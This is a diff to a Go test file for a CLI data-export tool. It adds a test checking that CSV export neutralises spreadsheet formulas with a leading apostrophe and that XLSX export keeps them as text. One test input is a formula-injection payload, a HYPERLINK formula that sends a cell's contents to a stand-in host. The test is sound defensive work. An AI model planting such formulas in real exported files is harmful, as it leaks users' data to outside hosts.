@@ -3,15 +3,18 @@ package cli
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
 	"unicode"
 
 	"github.com/google/uuid"
+	"github.com/xuri/excelize/v2"
 
 	"mahalleh/data"
 )
@@ -218,5 +221,77 @@ func TestExportNeverCreatesAMissingStore(t *testing.T) {
 	}
 	if _, err := os.Stat(db); !os.IsNotExist(err) {
 		t.Errorf("a store was created at %s", db)
+	}
+}
+
+// TestCSVExportNeutralisesFormulas: text that starts like a spreadsheet
+// formula reaches the CSV file with a leading apostrophe (so Excel shows it
+// instead of running it); the XLSX file keeps it as typed text.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	db := filepath.Join(t.TempDir(), "f.db")
+	s, err := data.Open(db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	typed := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+98 21 5555", "-2+3", "@SUM(A1:A2)", "\tTAB"}
+	err = s.Write(context.Background(), "test", func(w *data.Writer) error {
+		for _, name := range typed {
+			if _, err := w.Save("people", map[string]any{"district": 14, "name": name, "role": "resident"}); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	s.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(t.TempDir(), "csv")
+	if code, _, e := run("export", "--db", db, "--format", "csv", "--out", dir); code != 0 {
+		t.Fatalf("csv: exit %d: %s", code, e)
+	}
+	f, err := os.Open(filepath.Join(dir, "people.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := slices.Index(rows[0], "name")
+	var got []string
+	for _, r := range rows[1:] {
+		got = append(got, r[col])
+		if district := r[slices.Index(rows[0], "district")]; district != "14" {
+			t.Errorf("a number was changed: district %q", district)
+		}
+	}
+	for _, name := range typed {
+		if !slices.Contains(got, "'"+name) {
+			t.Errorf("%q is not neutralised in the CSV: names %q", name, got)
+		}
+	}
+	xlsx := filepath.Join(t.TempDir(), "all.xlsx")
+	if code, _, e := run("export", "--db", db, "--format", "xlsx", "--out", xlsx); code != 0 {
+		t.Fatalf("xlsx: exit %d: %s", code, e)
+	}
+	wb, err := excelize.OpenFile(xlsx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer wb.Close()
+	sheet, err := wb.GetRows("people")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var inBook []string
+	for _, r := range sheet[1:] {
+		inBook = append(inBook, r[col])
+	}
+	for _, name := range typed {
+		if !slices.Contains(inBook, name) {
+			t.Errorf("%q is not kept as typed in the XLSX: names %q", name, inBook)
+		}
 	}
 }
